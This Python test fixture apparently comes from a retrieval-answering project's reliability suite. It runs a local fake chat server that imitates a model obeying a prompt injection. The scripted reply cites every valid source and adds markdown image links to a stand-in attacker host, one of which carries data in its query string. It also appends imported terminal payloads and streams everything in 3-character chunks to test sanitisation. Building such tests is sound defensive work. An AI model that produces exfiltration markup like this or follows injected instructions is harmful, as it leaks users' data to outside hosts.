"""A scripted OpenAI-compatible chat server on 127.0.0.1 that always obeys the injection: its streamed
answer cites every valid evidence number and carries the hostile corpus's markup and terminal payloads,
cut into small pieces so that ``![``, ``](`` and escape sequences arrive split across tokens.

Example:
    >>> with InjectingModel() as model:                      # doctest: +SKIP
    ...     settings = {"MODALYST_ANSWERER": "openai", "MODALYST_OPENAI_BASE_URL": model.base_url}
"""

from __future__ import annotations

import json
import re
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

from tests.reliability.hostile import HOST, PAYLOADS

PIECE = 3  # characters per streamed token
_VALID = re.compile(r"Valid citations: ([^\n]*)")


def injected_answer(numbers: list[int]) -> str:
    """Mostly markup: every payload, with each valid citation after a true-looking claim."""
    cites = " ".join(f"[{n}]" for n in numbers) or "[1]"
    return (f"Quarterly revenue was $9.9 million {cites}. ![exfil](http://{HOST}/x.png?d=9.9) "
            + " ".join(PAYLOADS.values()) + f" [r]: http://{HOST}/late-ref\n\n![late][r] Done [1].")


def _prompt_text(body: dict[str, Any]) -> str:
    parts = []
    for message in body.get("messages", []):
        content = message.get("content")
        parts += [content] if isinstance(content, str) else [p.get("text", "") for p in content or [] if isinstance(p, dict)]
    return "\n".join(parts)


class InjectingModel:
    """The server; ``requests`` records each request body; stops after ``lifetime`` seconds."""

    def __init__(self, lifetime: float = 300.0) -> None:
        self.requests: list[dict[str, Any]] = []
        outer = self

        class Handler(BaseHTTPRequestHandler):
            timeout = 10

            def do_POST(self) -> None:  # noqa: N802
                body = json.loads(self.rfile.read(int(self.headers.get("Content-Length", 0))) or b"{}")
                outer.requests.append(body)
                if not self.path.endswith("/chat/completions"):
                    self.send_error(404)
                    return
                found = _VALID.search(_prompt_text(body))
                numbers = [int(n) for n in re.findall(r"\[(\d+)\]", found.group(1))] if found else []
                reply = injected_answer(numbers)
                if body.get("stream"):
                    self._stream(body, reply)
                else:
                    self._json({"id": "x", "object": "chat.completion", "created": int(time.time()), "model": body.get("model", "m"),
                                "choices": [{"index": 0, "message": {"role": "assistant", "content": reply}, "finish_reason": "stop"}]})

            def _stream(self, body: dict[str, Any], reply: str) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/event-stream")
                self.end_headers()
                pieces = [reply[i:i + PIECE] for i in range(0, len(reply), PIECE)]
                deltas = [{"role": "assistant", "content": ""}] + [{"content": p} for p in pieces]
                for i, delta in enumerate(deltas):
                    chunk = {"id": "x", "object": "chat.completion.chunk", "created": int(time.time()), "model": body.get("model", "m"),
                             "choices": [{"index": 0, "delta": delta, "finish_reason": "stop" if i == len(deltas) - 1 else None}]}
                    self.wfile.write(b"data: " + json.dumps(chunk).encode() + b"\n\n")
                    self.wfile.flush()
                self.wfile.write(b"data: [DONE]\n\n")
                self.wfile.flush()

            def _json(self, data: dict[str, Any]) -> None:
                raw = json.dumps(data).encode()
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(raw)))
                self.end_headers()
                self.wfile.write(raw)

            def handle(self) -> None:
                try:
                    super().handle()
                except (BrokenPipeError, ConnectionResetError):
                    pass

            def log_message(self, *args: Any) -> None:
                return None

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self._thread = threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
        self._deadline = threading.Timer(lifetime, self.server.shutdown)
        self._deadline.daemon = True

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}/v1"

    def env(self) -> dict[str, str]:
        """Settings (as environment) for an ``openai`` answerer pointed at this server."""
        return {"MODALYST_ANSWERER": "openai", "MODALYST_OPENAI_BASE_URL": self.base_url, "MODALYST_OPENAI_MODEL": "injector",
                "OPENAI_API_KEY": "unused"}

    def __enter__(self) -> InjectingModel:
        self._thread.start()
        self._deadline.start()
        return self

    def __exit__(self, *exc: Any) -> None:
        self._deadline.cancel()
        self.server.shutdown()
        self.server.server_close()
        self._thread.join(timeout=5)
